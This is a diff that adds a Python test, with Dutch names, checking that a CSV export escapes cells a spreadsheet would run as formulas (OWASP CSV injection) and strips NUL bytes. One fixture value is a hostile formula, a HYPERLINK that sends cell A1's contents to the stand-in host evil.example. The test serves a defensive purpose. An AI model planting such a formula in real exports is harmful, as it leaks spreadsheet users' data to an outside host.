@@ -523,3 +523,31 @@ def test_commands_that_read_do_not_create_a_database_by_a_typo(tmp_path):
         assert resultaat.exit_code == 1, opdracht
         assert "tikfout.db bestaat niet" in resultaat.output
     assert not (tmp_path / "tikfout.db").exists()
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_text(db, meting, tmp_path):
+    """OWASP CSV injection: =, +, -, @, tab and carriage return at the start of a cell make
+    Excel run it; such cells get a leading apostrophe, NUL bytes are dropped (issue 18)."""
+    vijandig = {
+        "visie-1": '=HYPERLINK("https://evil.example/?"&A1;"klik")',
+        "visie-2": "+31 6 1234",
+        "meldcode-1": "-2+3",
+    }
+    for vraag, tekst in vijandig.items():
+        opslag.sla_antwoord(db, meting.id, "GM9001", vraag, 1, toelichting=tekst, wie="fien")
+    opslag.sla_antwoord(db, meting.id, "GM9002", "visie-1", 1, toelichting="@SUM(1)", wie="f")
+    opslag.sla_antwoord(db, meting.id, "GM9002", "meldcode-1", 1, toelichting="a\x00b", wie="f")
+    pad = uitwisseling.exporteer_csv(db, [meting.id], tmp_path / "antwoorden.csv")
+    rijen = list(csv.DictReader(io.StringIO(pad.read_bytes().decode("utf-8-sig")), delimiter=";"))
+    toelichtingen = {(r["cbs"], r["vraag_id"]): r["toelichting"] for r in rijen}
+    for vraag, tekst in vijandig.items():
+        assert toelichtingen[("GM9001", vraag)] == "'" + tekst
+    assert toelichtingen[("GM9002", "visie-1")] == "'@SUM(1)"
+    assert toelichtingen[("GM9002", "meldcode-1")] == "ab"
+    for rij in rijen:
+        for waarde in rij.values():
+            assert not waarde.startswith(("=", "+", "-", "@", "\t", "\r")), rij
+    # The store strips a text's leading whitespace; the cell rule covers tab and CR anyway.
+    assert uitwisseling.veilige_cel("\tx") == "'\tx"
+    assert uitwisseling.veilige_cel("\r=1") == "'\r=1"
+    assert uitwisseling.veilige_cel(-3) == -3
